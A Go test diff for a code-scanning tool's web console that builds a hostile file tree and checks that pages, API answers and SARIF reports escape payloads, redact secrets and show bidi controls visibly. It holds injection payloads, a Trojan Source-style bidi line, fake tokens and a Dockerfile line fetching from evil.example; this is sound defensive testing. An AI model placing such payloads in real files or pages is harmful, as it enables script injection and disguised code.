@@ -3,6 +3,7 @@ package ui_test
 import (
 	"context"
 	"crypto/rand"
+	"encoding/json"
 	"math/big"
 	"net/http"
 	"net/url"
@@ -14,6 +15,7 @@ import (
 	"time"
 
 	"scand/finding"
+	"scand/finding/excerpt"
 	"scand/store"
 )
 
@@ -40,10 +42,12 @@ func randomBase62(n int) string {
 }
 
 // hostileTree writes a tree whose file names and contents carry HTML,
-// script, URL and bidi payloads, and that the built-in scanners report on.
-func hostileTree(t *testing.T) string {
+// script, URL and bidi payloads, and that the built-in scanners report on;
+// secrets are the secret values in it (a private key's body lines too),
+// none of which may ever show whole.
+func hostileTree(t *testing.T) (root string, secrets []string) {
 	t.Helper()
-	root := filepath.Join(t.TempDir(), "repo"+imgPayload)
+	root = filepath.Join(t.TempDir(), "repo"+imgPayload)
 	write := func(rel, content string) {
 		p := filepath.Join(root, rel)
 		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
@@ -54,10 +58,21 @@ func hostileTree(t *testing.T) string {
 		}
 	}
 	write(filepath.Join(imgPayload, "Dockerfile"), "FROM "+svgPayload+":latest\nWORKDIR "+scriptPayload+"\nADD http://evil.example/"+svgPayload+" /opt/\n")
-	write(filepath.Join(rtlName, "settings.py"), `GITHUB_TOKEN = "ghp_`+randomBase62(36)+`"`+"\n")
-	write(jsURL+".env", "token = ghp_"+randomBase62(36)+"\n")
-	write(imgPayload+".py", "# "+scriptPayload+"\napi = 'ghp_"+randomBase62(36)+"'\n")
-	return root
+	secret := func() string {
+		v := "ghp_" + randomBase62(36)
+		secrets = append(secrets, v)
+		return v
+	}
+	write(filepath.Join(rtlName, "settings.py"), `GITHUB_TOKEN = "`+secret()+`"`+"\n")
+	write(jsURL+".env", "token = "+secret()+"\n")
+	// Neighbouring lines of a finding: another secret, a key's body, a
+	// bidi control in code and a line far past the cap.
+	body := []string{randomBase62(64), randomBase62(64), randomBase62(40)}
+	secrets = append(secrets, body...)
+	write(imgPayload+".py", "# "+scriptPayload+"\napi = '"+secret()+"'\n"+"long = '"+strings.Repeat("<img src=x>", 100)+"'\n"+
+		"access = \"user\u202E \u2066// admin\u2069 \u2066\"\n"+"backup = '"+secret()+"'\n"+
+		"-----BEGIN RSA PRIVATE KEY-----\n"+strings.Join(body, "\n")+"\n-----END RSA PRIVATE KEY-----\n")
+	return root, secrets
 }
 
 // TestHostileContentStaysText scans a real hostile tree through the
@@ -65,7 +80,7 @@ func hostileTree(t *testing.T) string {
 // notifications, and checks every page: the payloads appear as text and
 // never as markup, links or script.
 func TestHostileContentStaysText(t *testing.T) {
-	tree := hostileTree(t)
+	tree, secrets := hostileTree(t)
 	e := newEnv(t, envOptions{})
 	c := e.client(t)
 	c.get("/ui/scans")
@@ -150,6 +165,11 @@ func TestHostileContentStaysText(t *testing.T) {
 			i := strings.Index(p.body, m)
 			t.Errorf("%s: raw payload %q in the page: %q", path, m, p.body[max(0, i-80):min(len(p.body), i+80)])
 		}
+		for _, v := range secrets {
+			if strings.Contains(p.body, v) {
+				t.Errorf("%s: a secret value shows whole", path)
+			}
+		}
 		text := visibleText(toks)
 		for _, payload := range []string{imgPayload, scriptPayload, svgPayload, jsURL, "[U+202E]"} {
 			if strings.Contains(text, payload) {
@@ -168,6 +188,7 @@ func TestHostileContentStaysText(t *testing.T) {
 			t.Errorf("payload %q never appeared as text: the test did not exercise it", payload)
 		}
 	}
+	checkExcerpts(t, e, c, scanID, real, secrets, admin)
 	// The downloaded HTML report (and the PDF printed from it) shows bidi
 	// controls as the console does, from the console and from the API.
 	for _, id := range []string{scanID, synth.ID} {
@@ -250,5 +271,59 @@ func TestHostileNullOriginForms(t *testing.T) {
 	}
 	if status, body := e.apiDo("GET", "/api/v1/webhooks", "", ""); status != 200 || strings.TrimSpace(body) != "[]" {
 		t.Fatalf("webhooks after the refused requests: %d %s", status, body)
+	}
+}
+
+// checkExcerpts: the real findings' pages, API answers and SARIF show
+// the code kept around them (so the checks above read it), with secrets
+// redacted, the key body masked, bidi controls visible and lines capped.
+func checkExcerpts(t *testing.T, e *env, c *client, scanID string, real []store.FindingWithState, secrets []string, key string) {
+	t.Helper()
+	shown := 0
+	for _, f := range real {
+		if f.Scanner != "secrets" {
+			continue
+		}
+		status, body := e.apiDo("GET", "/api/v1/findings/"+f.Fingerprint+"?scan="+scanID, key, "")
+		if status != 200 {
+			t.Fatalf("finding detail: %d %s", status, body)
+		}
+		var got store.FindingWithState
+		if err := json.Unmarshal([]byte(body), &got); err != nil {
+			t.Fatal(err)
+		}
+		ex := got.Excerpt
+		if ex == nil {
+			t.Errorf("%s:%d has no excerpt", f.FilePath, f.Line)
+			continue
+		}
+		shown++
+		// The finding's line, or for a private key the body line after its
+		// header, shows the secret exactly as the finding redacts it.
+		_, ok := ex.Text(f.Line)
+		if redacted, _ := f.Metadata["redacted"].(string); !ok || redacted == "" || !strings.Contains(strings.Join(ex.Lines, "\n"), redacted) {
+			t.Errorf("%s:%d: the excerpt %q does not show the finding's redacted form %q", f.FilePath, f.Line, ex.Lines, redacted)
+		}
+		for _, l := range ex.Lines {
+			if len(l) > excerpt.MaxLineBytes || strings.ContainsAny(l, "\u202E\u2066\u2069") {
+				t.Errorf("excerpt line not capped or with a raw bidi control: %q", l)
+			}
+		}
+		page := c.get("/ui/findings/" + f.Fingerprint + "?scan=" + scanID)
+		if !strings.Contains(page.body, `class="excerpt"`) || !strings.Contains(page.body, `class="hit"`) {
+			t.Errorf("finding page of %s:%d shows no code", f.FilePath, f.Line)
+		}
+	}
+	if shown < 3 {
+		t.Fatalf("%d secrets findings with an excerpt, want at least 3", shown)
+	}
+	status, sarif := e.apiDo("GET", "/api/v1/scans/"+scanID+"/report?format=sarif", key, "")
+	if status != 200 || !strings.Contains(sarif, `"contextRegion"`) || !strings.Contains(sarif, "[U+202E]") || !strings.Contains(sarif, "[U+2066]") {
+		t.Fatalf("SARIF: %d, contextRegion %v", status, strings.Contains(sarif, `"contextRegion"`))
+	}
+	for _, v := range secrets {
+		if strings.Contains(sarif, v) {
+			t.Errorf("SARIF shows a secret value whole")
+		}
 	}
 }
